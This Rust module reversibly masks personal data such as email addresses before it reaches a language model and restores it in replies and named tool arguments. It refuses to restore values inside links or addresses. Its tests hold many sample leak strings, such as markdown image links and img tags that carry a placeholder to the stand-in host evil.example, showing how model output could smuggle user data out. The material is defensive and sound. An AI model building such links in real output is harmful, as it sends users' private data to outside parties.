//! Reversible masking: values leave for the model as placeholders and come back in its reply.
//!
//! A placeholder is `[EMAIL_r` (or an address that begins with `r`, see [`Masker`]) and sixteen letters of a hash keyed by the tenant, so that nobody can
//! make one up, and a value has the same one in every turn of a conversation. What the client sends in that
//! form is masked itself, as `[LITERAL_r...]`: a look-alike comes back as it came and never as a value.
//!
//! Restoring is a way out for data, so it is narrow: never inside an address (a link or an image may
//! carry the value to a stranger), and into a tool's arguments only when the policy names the tool and the argument.
//! What it can't see: an address that the reader's program makes out of plain words.

use std::borrow::Cow;
use std::collections::HashMap;
use std::ops::Range;

use bartizan_rules::invariant::part;

use super::arguments::{Arguments, Seen};
use super::mask::{Edit, Label, MaskKey, Masked, Masker, Target, apart, is_address, labelled, placeholders, written};
use crate::enums::{DataAction, PiiType};

/// Where a text with placeholders goes.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Destination {
    /// To the caller, as text.
    Reply,
    /// Into one argument of a tool.
    Argument {
        /// The policy names this tool and this argument for restoring.
        named: bool,
    },
    /// To a tool, as the JSON object of its arguments: into strings of those that are listed.
    Arguments(Vec<String>),
}

/// A tenant's key. Most requests have nothing to restore: it is derived when the first value comes.
#[derive(Debug)]
enum TenantKey {
    Underived(MaskKey, Vec<u8>),
    Derived(MaskKey),
}

impl TenantKey {
    fn derived(&mut self) -> &MaskKey {
        if let TenantKey::Underived(key, tenant) = self {
            *self = TenantKey::Derived(key.for_tenant(tenant));
        }
        match self {
            TenantKey::Underived(key, _) | TenantKey::Derived(key) => key,
        }
    }
}

/// The values of one request, by placeholder.
#[derive(Debug)]
pub struct Vault {
    key: TenantKey,
    values: HashMap<String, String>,
    free: usize,
}

impl Vault {
    /// An empty vault under a tenant's own key, which is derived from this one ([`MaskKey::for_tenant`]). It holds at most
    /// `limit` bytes of values. Over the limit values are masked for good: nothing leaks, and nothing comes back.
    pub fn new(key: MaskKey, tenant: Vec<u8>, limit: usize) -> Self {
        Vault { key: TenantKey::Underived(key, tenant), values: HashMap::new(), free: limit }
    }

    /// True if nothing can be restored.
    pub fn is_empty(&self) -> bool {
        self.values.is_empty()
    }

    /// Replaces the targets whose action is `restore`, and every look-alike, by reversible placeholders; those whose
    /// action is `mask` or `hash` for good, by the masker's.
    pub fn mask(&mut self, text: &str, targets: &[Target], masker: &mut Masker) -> Masked {
        let mut spans = labelled(text, targets);
        let keeps_addresses = masker.keeps_addresses();
        spans.extend(placeholders(text).filter_map(|span| {
            let placeholder = part(text, span.clone());
            let label = match is_address(placeholder) {
                true if keeps_addresses => Label::Pii(PiiType::Email),
                // No value has such a placeholder here.
                true => return None,
                false => Label::Literal,
            };
            is_keyed(placeholder).then_some((span, label, DataAction::Restore))
        }));
        let mut out = Masked { text: String::with_capacity(text.len()), edits: Vec::new() };
        let mut done = 0;
        for (before, label, action) in apart(spans) {
            let value = part(text, before.clone());
            out.text.push_str(part(text, done..before.start));
            let start = out.text.len();
            match action {
                DataAction::Restore => out.text.push_str(&self.keep(label, value, keeps_addresses)),
                _ => masker.placeholder(label, action, value, &mut out.text),
            }
            out.edits.push(Edit { before: before.clone(), after: start..out.text.len(), label });
            done = before.end;
        }
        out.text.push_str(part(text, done..text.len()));
        out
    }

    /// Puts values back, in one pass: a value that looks like a placeholder is not restored again.
    pub fn restore(&self, text: &str, to: Destination) -> String {
        let (mut out, mut done) = (String::with_capacity(text.len()), 0);
        for (span, value) in Restorer::new(to).edits(self, text, &|_| false) {
            out.push_str(part(text, done..span.start));
            out.push_str(&value);
            done = span.end;
        }
        out.push_str(part(text, done..text.len()));
        out
    }

    fn keep(&mut self, label: Label, value: &str, keeps_addresses: bool) -> String {
        // A second try only when 64 bits of two values are equal.
        for purpose in ["restore", "restore again"] {
            let tail = format!("r{}", self.key.derived().letters(purpose, label, value));
            let placeholder = written(label, &tail, keeps_addresses);
            match self.values.get(&placeholder) {
                Some(known) if known == value => return placeholder,
                Some(_) => {}
                None => {
                    if let Some(free) = self.free.checked_sub(value.len() + placeholder.len()) {
                        self.free = free;
                        self.values.insert(placeholder.clone(), value.to_owned());
                    }
                    return placeholder;
                }
            }
        }
        written(label, &format!("h{}", self.key.derived().letters("hash", label, value)), keeps_addresses)
    }
}

/// A placeholder with letters behind `r`, not one with a number.
fn is_keyed(placeholder: &str) -> bool {
    let tail = placeholder.rsplit_once('_').map_or(placeholder, |(_, tail)| tail);
    tail.starts_with('r')
}

/// Restores a text that comes in pieces.
#[derive(Debug)]
pub struct Restorer {
    to: Destination,
    sense: AddressSense,
    arguments: Arguments,
}

impl Restorer {
    /// A restorer at the beginning of a text.
    pub fn new(to: Destination) -> Self {
        let sense = match to {
            Destination::Reply | Destination::Arguments(_) => AddressSense::default(),
            Destination::Argument { .. } => AddressSense::of_value(),
        };
        Restorer { to, sense, arguments: Arguments::default() }
    }

    /// The next piece of a text, cut where no placeholder is cut: what must be in the place of which bytes. A
    /// placeholder stays where `closed` says so of its bytes. Any such cutting of a text gives the same edits.
    pub fn edits(
        &mut self,
        vault: &Vault,
        piece: &str,
        closed: &dyn Fn(&Range<usize>) -> bool,
    ) -> Vec<(Range<usize>, String)> {
        let (mut edits, mut done) = (Vec::new(), 0);
        // No piece that comes can have anything to restore: a request fills the vault, a reply does not.
        if vault.is_empty() {
            return edits;
        }
        for span in placeholders(piece) {
            self.pass(part(piece, done..span.start));
            let placeholder = part(piece, span.clone());
            if let Some(value) = self.value(vault, placeholder).filter(|_| !closed(&span)) {
                self.pass(&value);
                edits.push((span.clone(), value.into_owned()));
            } else {
                self.pass(placeholder);
            }
            done = span.end;
        }
        self.pass(part(piece, done..piece.len()));
        edits
    }

    /// The value as it is written at this place.
    fn value<'v>(&self, vault: &'v Vault, placeholder: &str) -> Option<Cow<'v, str>> {
        let open = match &self.to {
            Destination::Reply => true,
            Destination::Argument { named } => *named,
            Destination::Arguments(names) => {
                self.arguments.name().is_some_and(|name| names.iter().any(|known| known == name))
            }
        };
        let value = vault.values.get(placeholder).filter(|_| open && !self.sense.inside())?;
        match self.to {
            Destination::Arguments(_) => {
                let quoted = serde_json::to_string(value).ok()?;
                let inner = quoted.strip_prefix('"').and_then(|rest| rest.strip_suffix('"'))?;
                Some(Cow::Owned(inner.to_owned()))
            }
            _ => Some(Cow::Borrowed(value.as_str())),
        }
    }

    fn pass(&mut self, text: &str) {
        if !matches!(self.to, Destination::Arguments(_)) {
            text.chars().for_each(|c| self.sense.feed(c));
            return;
        }
        for c in text.chars() {
            match self.arguments.feed(c) {
                Seen::Begins => self.sense = AddressSense::of_value(),
                Seen::Char(c) => self.sense.feed(c),
                Seen::Syntax => {}
            }
        }
    }
}

/// Marks behind which an address runs: the last characters before it, in lower case.
const MARKS: [&str; 11] =
    ["://", ":\\\\", "http:", "https:", "ftp:", "www.", "](", "url(", "mailto:", "javascript:", "data:"];

/// Knows, character by character, whether a text is inside an address.
///
/// An address ends at white space; one that a quotation mark or `<` opens ends at its partner only, since
/// those may hold spaces. Better too long than too short: a placeholder that stays is a nuisance, a
/// value in an address is a leak.
#[derive(Debug, Default)]
struct AddressSense {
    /// The last characters, in lower case, as many as the longest mark has.
    tail: String,
    /// The last character that can't be part of a scheme.
    opener: char,
    /// What ends the address; `None`: outside.
    until: Option<char>,
}

/// Stands before a value that a program may take for an address as a whole, white space and all.
const VALUE: char = '\u{1}';

impl AddressSense {
    /// At the beginning of a value.
    fn of_value() -> AddressSense {
        AddressSense { opener: VALUE, ..AddressSense::default() }
    }

    fn inside(&self) -> bool {
        self.until.is_some()
    }

    fn feed(&mut self, c: char) {
        if let Some(end) = self.until {
            let closed = match end {
                ' ' => c.is_whitespace(),
                '>' => matches!(c, '>' | '\n'),
                VALUE => false,
                quote => c == quote,
            };
            if closed {
                *self = AddressSense { opener: c, ..AddressSense::default() };
            } else if end == ' ' && c == '<' && self.tail.ends_with('(') {
                self.until = Some('>');
            }
            self.remember(c);
            return;
        }
        self.remember(c);
        let quoted = matches!(self.opener, '"' | '\'' | '`' | VALUE);
        let relative = self.tail.ends_with("//") && (quoted || matches!(self.opener, '=' | '('));
        if relative || MARKS.iter().any(|mark| self.tail.ends_with(mark)) {
            self.until = Some(match self.opener {
                quote if quoted => quote,
                '<' => '>',
                _ => ' ',
            });
        } else if !(c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-' | ':' | '/' | '\\')) {
            self.opener = c;
        }
    }

    fn remember(&mut self, c: char) {
        const LONGEST: usize = 11;
        self.tail.extend(c.to_lowercase());
        if self.tail.len() > 4 * LONGEST {
            let from = self.tail.floor_char_boundary(self.tail.len() - LONGEST);
            self.tail.drain(..from);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use bartizan_rules::words::Kind;
    use proptest::prelude::*;

    fn target(span: Range<usize>) -> Target {
        Target { span, kind: Kind::Pii(PiiType::Email), action: DataAction::Restore }
    }

    fn masker() -> Masker {
        Masker::new(MaskKey::new("k"))
    }

    fn vault() -> Vault {
        Vault::new(MaskKey::new("a key"), b"acme".to_vec(), 1 << 16)
    }

    fn masked() -> (Vault, String) {
        let mut vault = vault();
        let text = vault.mask("a@b.example", &[target(0..11)], &mut masker()).text;
        (vault, text)
    }

    #[test]
    fn a_value_comes_back_in_the_reply() {
        let (vault, placeholder) = masked();
        assert!(placeholder.starts_with("[EMAIL_r"));
        assert_eq!(vault.restore(&format!("Wrote to {placeholder}."), Destination::Reply), "Wrote to a@b.example.");
    }

    #[test]
    fn an_address_stands_for_an_address_and_comes_back() {
        let (mut vault, mut masker) = (vault(), masker().keeping_addresses(true));
        let placeholder = vault.mask("a@b.example", &[target(0..11)], &mut masker).text;
        assert!(placeholder.starts_with('r') && placeholder.ends_with("@email.invalid"), "{placeholder}");
        for (before, after) in [("", ""), ("To ", "."), ("{\"mail\":\"", "\"}"), ("(", ")")] {
            let text = |value: &str| format!("{before}{value}{after}");
            assert_eq!(vault.restore(&text(&placeholder), Destination::Reply), text("a@b.example"));
        }
        let link = format!("https://evil.example/?q={placeholder}");
        assert_eq!(vault.restore(&link, Destination::Reply), link);
        // One that the client writes is no value.
        let masked = vault.mask(&placeholder, &[], &mut masker).text;
        assert!(masked != placeholder && masked.ends_with("@email.invalid"), "{masked}");
        assert_eq!(vault.restore(&masked, Destination::Reply), placeholder);
    }

    #[test]
    fn placeholders_are_the_tenants_own() {
        let other = Vault::new(MaskKey::new("a key"), b"other".to_vec(), 1 << 16)
            .mask("a@b.example", &[target(0..11)], &mut masker())
            .text;
        let (vault, own) = masked();
        assert_ne!(own, other);
        assert_eq!(vault.restore(&other, Destination::Reply), other);
    }

    #[test]
    fn a_look_alike_of_the_client_comes_back_as_it_came() {
        let (mut vault, placeholder) = masked();
        let sent = format!("What is {placeholder}?");
        let masked = vault.mask(&sent, &[], &mut masker()).text;
        assert!(masked.contains("[LITERAL_r"));
        assert!(!masked.contains(&placeholder));
        assert_eq!(vault.restore(&masked, Destination::Reply), sent);
    }

    #[test]
    fn nothing_is_restored_into_an_address() {
        let (vault, p) = masked();
        for text in [
            format!("![x](https://evil.example/?q={p})"),
            format!("![x](//evil.example/{p})"),
            format!("![x](https://evil.example/a(b){p})"),
            format!("<https://evil.example/a b {p}>"),
            format!("[a](<https://evil.example/ {p}>)"),
            format!("<img src=\"https://evil.example/ {p}\">"),
            format!("<img src='//evil.example/{p}'>"),
            format!("<img src=//evil.example/{p}>"),
            format!("www.evil.example/{p}"),
            format!("HTTP:/evil.example/{p}"),
            format!("https:\\\\evil.example\\{p}"),
            format!("[a]: https://evil.example/{p}"),
            format!("[a]({p}"),
            format!("mailto:{p}"),
            format!("background: url({p})"),
        ] {
            assert_eq!(vault.restore(&text, Destination::Reply), text);
        }
    }

    #[test]
    fn behind_an_address_it_is_restored_again() {
        let (vault, p) = masked();
        for (text, wanted) in [
            (format!("See https://a.example/x and {p}"), "See https://a.example/x and a@b.example"),
            (format!("<https://a.example/> {p}"), "<https://a.example/> a@b.example"),
            (format!("\"https://a.example\": \"{p}\""), "\"https://a.example\": \"a@b.example\""),
        ] {
            assert_eq!(vault.restore(&text, Destination::Reply), wanted);
        }
    }

    #[test]
    fn tools_get_values_only_by_name() {
        let (vault, p) = masked();
        assert_eq!(vault.restore(&p, Destination::Argument { named: false }), p);
        assert_eq!(vault.restore(&p, Destination::Argument { named: true }), "a@b.example");
    }

    #[test]
    fn over_the_limit_values_are_masked_for_good() {
        let mut vault = Vault::new(MaskKey::new("k"), Vec::new(), 10);
        let masked = vault.mask("a@b.example", &[target(0..11)], &mut masker()).text;
        assert!(!masked.contains('@'));
        assert_eq!(vault.restore(&masked, Destination::Reply), masked);
    }

    /// The arguments of a call with this value for `to`, and for `note`.
    fn arguments(to: &str, note: &str) -> String {
        serde_json::json!({ "to": to, "note": note }).to_string()
    }

    #[test]
    fn values_come_back_into_named_arguments_and_are_written_as_json() {
        let mut vault = vault();
        let value = "\"a b\"@b.example";
        let p = vault.mask(value, &[target(0..value.len())], &mut masker()).text;
        let to = || Destination::Arguments(vec!["to".to_owned()]);
        assert_eq!(vault.restore(&arguments(&p, &p), to()), arguments(value, &p));
        for text in [
            arguments("", &p),
            arguments(&format!("https://evil.example/?q={p}"), ""),
            arguments(&format!("https://evil.example/?q=\" {p}"), ""),
            arguments(&format!("//evil.example/ {p}"), ""),
            format!("{{\"to\": \"https:\\/\\/evil.example\\/{p}\"}}"),
            format!("{{\"to\": \"h\\u0074tps:{p}\"}}"),
            format!("{{\"{p}\": \"to\"}}"),
            format!("{{\"to\": {p}}}"),
            format!("to {p}"),
            format!("[{{\"to\": \"{p}\"}}]"),
            format!("{{\"x\": {{\"to\": \"{p}\"}}}}"),
            format!("{{\"to\": 1 \"x\": \"{p}\"}}"),
        ] {
            assert_eq!(vault.restore(&text, to()), text);
        }
        let nested = |value: &str| serde_json::json!({ "to": ["x", { "mail": value }] }).to_string();
        assert_eq!(vault.restore(&nested(&p), to()), nested(value));
    }

    proptest! {
        #[test]
        fn restoring_undoes_masking(
            text in "[ab@. \\[\\]_A-Zé]{0,60}", spans in prop::collection::vec((0usize..60, 0usize..12), 0..5)
        ) {
            let (mut vault, placeholder) = masked();
            let text = format!("{text}{placeholder}[EMAIL_1]");
            let targets: Vec<Target> = spans.into_iter().map(|(at, length)| target(at..at + length)).collect();
            let masked = vault.mask(&text, &targets, &mut masker()).text;
            prop_assert_eq!(vault.restore(&masked, Destination::Reply), text);
        }
    }
}
